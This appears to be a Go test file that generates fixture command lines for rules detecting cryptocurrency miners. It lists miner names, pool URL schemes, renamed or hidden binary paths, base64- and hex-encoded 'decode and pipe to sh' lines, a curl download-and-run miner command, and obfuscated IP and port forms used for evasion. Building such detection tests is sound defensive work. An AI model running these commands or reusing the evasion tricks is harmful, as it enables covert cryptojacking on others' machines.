package rules_test

import (
	"encoding/base64"
	"math/rand/v2"
	"slices"
	"strings"
)

// A minerKind is a way to start a miner.
type minerKind struct {
	name     string
	commands [][]string
}

// wallets returns invented wallet addresses of valid form, always the same.
func wallets() map[string]string {
	rnd := rand.New(rand.NewPCG(1, 2))
	shape := func(prefix, letters string, n int) string {
		b := []byte(prefix)
		for len(b) < n {
			b = append(b, letters[rnd.IntN(len(letters))])
		}
		return string(b)
	}
	return map[string]string{
		"monero":            shape("4", base58, 95),
		"monero subaddress": shape("8", base58, 95),
		"monero integrated": shape("4", base58, 106),
		"zephyr":            shape("ZEPH", base58, 99),
		"bitcoin":           shape("1", base58, 34),
		"bitcoin segwit":    shape("bc1q", bech32, 42),
		"raptoreum, verus":  shape("R", base58, 34),
		"sugarchain":        shape("sugar1q", bech32, 45),
		"ethereum":          shape("0x", "0123456789abcdef", 42),
		"dero":              shape("dero1qy", bech32, 66),
		"xelis":             shape("xel:", bech32, 63),
		"kaspa":             shape("kaspa:q", bech32, 67),
		"qubic":             shape("", "ABCDEFGHIJKLMNOPQRSTUVWXYZ", 60),
		"aleo":              shape("aleo1", bech32, 63),
	}
}

// renamed returns programs with inconspicuous names.
func renamed() []string { return []string{"/tmp/.x/worker", "./python3", "/dev/fd/5", "[kworker/0:1]"} }

// pools returns hosts with a port: a known pool, an address, a relay and an unknown name.
func pools() []string {
	return []string{"pool.supportxmr.com:3333", "203.0.113.7:4444", "127.0.0.1:6010", "a.example.net:443"}
}

// minerKinds returns the kinds of miners, with one command for each combination of their
// parts. The syntax is that of the usage texts of xmrig, cpuminer-opt, SRBMiner, lolMiner,
// ethminer, NBMiner, BzMiner and rigel.
func minerKinds() []minerKind {
	xmr := wallets()["monero"]
	return slices.Concat(stringKinds(xmr), furtherKinds(xmr))
}

// stringKinds returns the kinds that a single word tells.
func stringKinds(xmr string) []minerKind {
	var schemes, glued, names, flags, encoded [][]string
	for scheme := range strings.FieldsSeq(`
		stratum+tcp stratum+tcps stratum+ssl stratum+tls stratum+tls12 stratum+tls13 stratum+udp stratum+ws
		stratum+wss stratum+http stratum+https stratum1+tcp stratum1+ssl stratum1+tls stratum1+tls12
		stratum2+tcp stratum2+tcps stratum2+ssl stratum2+tls12 stratum3+tcp stratum3+ssl
		stratum stratums stratumss daemon+http daemon+https solo+tcp solo+http
		ethproxy+tcp ethproxy+ssl ethstratum+tcp ethstratum+ssl ethstratum2+tcp ethnh+tcp nicehash+tcp
		zmp+tcp zmp+ssl node+tcp`) {
		for _, program := range renamed() {
			for _, option := range []string{"-o", "--url", "-P", "--pool", "-c"} {
				schemes = append(schemes, []string{program, option, scheme + "://203.0.113.7:4444", "-u", xmr})
			}
			for _, option := range []string{"-o", "--url=", "-o[1]", strings.ToUpper("--pool=")} {
				glued = append(glued, []string{program, option + strings.ToUpper(scheme) + "://" + xmr + "@203.0.113.7:4444"})
			}
		}
	}
	for name := range strings.FieldsSeq(`
		xmrig XMRig xmrig.exe xmr-stak minerd cpuminer
		SRBMiner-MULTI srbminer-multi wildrig-multi lolMiner nanominer
		hellminer bzminer onezerominer nbminer t-rex.miner/ccminer PhoenixMiner dero-miner-linux-amd64 rqiner-x86
		rqiner-x86-znver4 qli-Client tnn-miner xelis_miner aleo_prover kinsing kdevtmpfsi
		perfctl keryx-miner warthog-miner minotari_miner grin-miner beam-miner ironfish-miner quai-gpu-miner`) {
		for _, directory := range []string{"", "./", "/dev/shm/.x/", "/root/.cache/miner-6.22.2/"} {
			names = append(names, []string{directory + name, "-c", "config.json"})
		}
		names = append(names, []string{"/bin/sh", "-c", "cd /tmp && nohup ./" + name + " -c config.json >/dev/null 2>&1 &"})
	}
	for _, option := range []string{
		"--donate-level=0", "--donate-l=1", "--randomx-1gb-pages", "--randomx-mode=fast", "--cpu-max-threads-hint=75",
		"--huge-pages-jit", "--algo=rx/wow", "--algo=cn/r", "--algo=rx/0,cn/1", "--algo=cn-heavy/xhv", "--algo=argon2/chukwav2", "--self-select=203.0.113.7:18081", "--msr-use-preset",
		"--disable-msr-tweaks", "--cpu-threads-intensity", "--ethstratum", "--start-mining", "-epool=203.0.113.7:8008", "--farm-recheck",
	} {
		for _, program := range renamed() {
			flags = append(flags, []string{program, option, xmr, "-k"}, []string{program, "-o", "203.0.113.7:4444", option})
		}
	}
	for _, text := range []string{"./a -o stratum+tcp://203.0.113.7:4444", "./a --donate-level 1", "a=stratum+ssl://b:1"} {
		for before := range 3 {
			b64 := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("#", before) + text))
			encoded = append(encoded, []string{"/bin/sh", "-c", "echo " + b64 + " | base64 -d | sh"})
		}
	}
	encoded = append(encoded, []string{"/bin/bash", "-c", "echo 2e2f61202d6f207374726174756d2b7463703a2f2f61 | xxd -r -p | sh"})
	return []minerKind{
		{name: "the scheme of a miner's URL", commands: schemes},
		{name: "the scheme glued to its option, in upper case", commands: glued},
		{name: "the name of a miner's program", commands: names},
		{name: "an option that only miners have", commands: flags},
		{name: "an encoded command line", commands: encoded},
	}
}

// furtherKinds returns the kinds that only several words together tell, or the beginning of
// one.
func furtherKinds(xmr string) []minerKind {
	var wallet, algorithm, coin, relayed, other, versions [][]string
	for _, program := range renamed() {
		for _, pool := range pools() {
			for _, w := range wallets() {
				for _, o := range [][3]string{{"-o", "-u", "-k"}, {"--url", "--user", "--tls"}, {"--pool", "--wallet", "-B"}, {"-0", "-u", "--tls"}} {
					wallet = append(wallet, []string{program, o[0], pool, o[1], w + ".rig1", o[2]}, []string{program, o[0] + "=" + pool, o[1] + "=" + w})
				}
			}
			for a := range strings.FieldsSeq(`rx/0 rx randomx cn/r kawpow ghostrider gr verushash verus yespower
				yespowersugar power2b minotaurx etchash autolykos2 astrobwt xelishashv3 sha3x panthera`) {
				algorithm = append(algorithm,
					[]string{program, "-a", a, "-o", pool, "-u", "worker"}, []string{program, "--algo", a, "--pool", pool},
					[]string{program, "--algorithm", a, "--pool", pool}, []string{program, "--algorithm=" + a, "--pool=" + pool})
			}
			coin = append(coin, []string{program, "--coin", "monero", "-o", pool}, []string{program, "--coin=XMR", "--url=" + pool, "--user=w"},
				[]string{program, "--rig-id", "a", "-o", pool, "--nicehash"}, []string{program, "--miner-address", wallets()["xelis"], "--daemon-address", pool})
		}
	}
	relayed = [][]string{
		{"/usr/bin/proxychains4", "./worker", "-o", "pool.supportxmr.com:3333", "-a", "rx", "-u", xmr},
		{"./graftcp", "./worker", "--algo", "ETCHASH", "--pool", "203.0.113.7:3353", "--user", wallets()["ethereum"]},
		{"/usr/bin/firefox", "--headless", "https://miner.example.net?algorithm=minotaurx&host=mine.zpool.ca&port=7019&worker=" + wallets()["bitcoin"]},
		{"/usr/bin/chromium", "https://a.example.net/?algorithm=x&worker=" + wallets()["bitcoin segwit"] + "&port=443&host=203.0.113.7"},
		{"/bin/sh", "-c", "curl -sL http://203.0.113.7/w -o w && chmod +x w && ./w -o pool.supportxmr.com:3333 -u " + xmr + " &"},
		{"/usr/bin/bash", "-s", xmr}, {"/bin/sh", "-s", "--", xmr}, {"./setup_c3pool_miner.sh", xmr}, {"/bin/bash", "setup_moneroocean_miner.sh", xmr},
	}
	other = [][]string{
		{"./data", "ann", "-p", "pkt" + wallets()["sugarchain"][5:], "http://pool.example.org"},
		{"./worker", "-a", "yespower", "-o", "http://127.0.0.1:3000/json-rpc", "-u", "me", "-p", "5"},
		{"./worker", "-a", "rx/0", "-o", "eu.xmr.example", "-u", "me"}, {"./worker", "--algo=KAWPOW", "--pool=203.0.113.7", "--user=me"},
		{"./worker", "-o", "203.0.113.7:3333", "--rig-id", "az", "-t", "8"},
		{"./worker", "--url=" + wallets()["ethereum"] + ".rig1@203.0.113.7:3333", "--par=144,5"},
		{"./worker", "--algo", "144_5", "--pers", "auto", "--server", "203.0.113.7", "--port", "3333", "--user", wallets()["raptoreum, verus"] + ".w"},
		{"./worker", "--host", "203.0.113.7", "--port", "3333", "--user", xmr}, {"./worker", "--host=eu.example.net", "--port=3333", "-u", xmr + ".w"},
		{"./worker", "--pool-host", "203.0.113.7", "--pool-port", "3333", "--wallet", wallets()["ethereum"]},
		{"./worker", "--pool", "wss://aleo.example.net:3333", "--address", wallets()["aleo"]},
		{"./prover", "--pool", "wss://aleo.example.net:3333", "--account", "me", "--worker-name", "w"},
		{"./worker", "--url=wss://ws.example.net/proxy", "--user=" + xmr},
		{"./worker", "-a", "scrypt", "-o", "203.0.113.7:3333", "-u", "me.1", "-p", "x"},
		{"./worker", "-o", "gulf.moneroocean.stream", "-u", xmr}, {"./worker", "-o", "xmr-eu.example.net:443", "-u", "me"},
		{"./worker", "-o", "moneropool.example.net:443", "-u", "me"}, {"./worker", "--url", "stratum2.example.net:443", "--user", "me", "-k"},
		{"./worker", "-opool.hashvault.pro:443", "-u", "me", "-k"}, {"./worker", "--currency", "monero7", "-o", "203.0.113.7:3333", "-u", "me"},
		{"./worker", "-a", "rx/0", "-o", "203.0.113.7:3333/x", "-u", "me"}, {"./worker", "-a", "kawpow", "-o", "eu.example.net:3333/x", "-u", "me", "-p", "x"},
		{"./worker", "-a", "rx", "-o", "203.0.113.7:3333/x", "-u", "me"}, {"./worker", "--algo=KAWPOW", "--pool=ssl://203.0.113.7:80/?x", "--user=me"},
		{"./worker", "-a", "verus", "-oeu.example.net:3333.x", "-u", "me"},
		{"./worker", "-a", "x11", "-o", "http://127.0.0.1:9998", "-u", "rpc", "-p", "pass"},
		{"./worker", "-a", "sha256d", "-o", "http://127.0.0.1:8332", "-u", "rpc", "-p", "x"},
		{"./worker", "-a", "verus", "-o", "eu.example.com", "-u", "me"}, {"./worker", "--algo", "verus", "--pool", "203.0.113.7", "--user", "me"},
		{"./worker", "-a", "scrypt", "-o", "203.0.113.7:3333", "-u", "my", "-p", "x"}, {"./worker", "-a", "rx/0", "-o", "eu.xmr.example", "-u", "h"},
		{"./worker", "-a", "rx/0", "-o", "eu.xmr.example", "-u", "spy"},
	}
	// A port that could be a minute, and hosts without a domain.
	for endpoint := range strings.FieldsSeq(`pool:80 pool:443 pool-12:3333 203.0.113.7:53 eu.example.net:25 pool.example.me:0025 10.0.0.12:80/
		ssl://pool:3333 [2001:db8::7]:3333 [2001:db8::7]:53
		3405803783:3333 0xcb007107:3333 me:x@pool:3333 me.w:x@eu.example.net:22 a.example.net:22,b.example.net:3333
		84475905:3333 16777216:80 30189121:3333 52166410:3333 ssl://21082125:443 0300.0250.01.02:3333 0177.0.0.1:3333 001.2.3.4:443 0300.5:3333
		030052000401:3333 0000030052000401:3333 h.xn--p1ai:53 pool.xn--80asehdb:3333 tls://h.xn--fiq228c5hs:25/`) {
		other = append(other, []string{"./worker", "-a", "rx/0", "-o", endpoint}, []string{"./worker", "--algo=kawpow", "--pool=" + endpoint},
			[]string{"./worker", "--coin", "monero", "-o", endpoint}, []string{"./worker", "--url", endpoint, "--user", xmr})
	}
	// Ports that miners read up to the first other symbol, and of which they take the last 16 bits.
	for endpoint := range strings.FieldsSeq(`h.example:134405 10.0.0.5:134405 h.example:3333_ h.example:3333z h.example:3333: h.example:3333- 203.0.113.7:3333-
		ssl://203.0.113.7:3333_ h.example:3333_x h.example:80_ h.example:65536000003333 h.example:003333- me.w:x@eu.example.net:134405 h.xn--p1ai:134405
		[2001:db8::7]:3333_ tls://[2001:db8::7]:134405 84475905:134405 3405803783:3333_ 0300.0250.01.02:3333z 030052000401:134405`) {
		other = append(other, []string{"./worker", "-a", "rx/0", "-o", endpoint, "-u", "x"}, []string{"./worker", "--algo=kawpow", "--pool=" + endpoint, "--user=me"},
			[]string{"./worker", "-a", "gr", "-o" + endpoint, "-u", "x"})
	}
	// Ports that are near those of nodes.
	for port := range strings.FieldsSeq("80 443 3333 8080 8332 8799 9000 10001 10128 10343 13333 17777 18192 19999 20128 27777 28000 33333 34444 38000 45700 65000 018192") {
		other = append(other, []string{"./worker", "--coin", "monero", "--url", "pool:" + port, "--user", "me"})
	}
	other = append(other, []string{"./worker", "--coin=monero", "--url=eu.example.net:3333"}, []string{"./worker", "--coin=xmr", "--url=203.0.113.7:10128"})
	for name := range strings.FieldsSeq("rx cn gr verus cn/r rx/0,cn/1 rx/scash RX/juno cn/upx cn/heavy") {
		other = append(other, []string{"./worker", "-a", name, "-o", "pool:3333"}, []string{"./worker", "-a", name, "-o", "203.0.113.7:3333/", "-u", "me"})
	}
	other = append(other, []string{"./worker", "-o", "pool.example.net:22", "-u", "me"})
	for name := range strings.FieldsSeq(`xmrig-notls xmrig-miner cpuminer-avx2 cpuminer-avx512-sha-vaes cpuminer-sse42-aes
		cpuminer-zen4 miniZ xmrig-6.22.2 xmrig-6.22.2-linux-static-x64 cpuminer-v4 cpuminer-sse5 SRBMiner-MULTI-2-9-4
		xmrig-6.22.2.exe ccminer-8.21-cuda11 xmrig_v6.22
		xmrig-mining xmrig-daemon xmrig-amd xmrig-nvidia xmrig-opencl xmrig-debian xmrig-static xmrig-musl xmrig-win xmrig-mo xmrig-custom
		xmrig-nodonate xmrig-linux xmrig-client cpuminer-multi cpuminer-opt cpuminer-gr cpuminer-rplant ccminer-verus ccminer_hack wildrig-multi-0.40.5 dero-miner-linux-riscv64 rqiner-x86-znver6 xmrigd`) {
		for _, directory := range []string{"./", "/dev/shm/.x/", "/root/.cache/miner-6.22.2/"} {
			versions = append(versions, []string{directory + name, "-c", "config.json"})
		}
		versions = append(versions, []string{"/bin/sh", "-c", "cd /tmp && nohup ./" + name + " -c config.json >/dev/null 2>&1 &"})
	}
	return []minerKind{
		{"a pool or its address with a wallet", wallet},
		{"an algorithm with a pool", algorithm},
		{"a coin, a rig or a payout address with a pool", coin},
		{"a miner behind a relay, in a browser, or from a downloading shell", relayed},
		{"other words that only together are a miner's", other},
		{"a program's name with a version or a new variant", versions},
	}
}
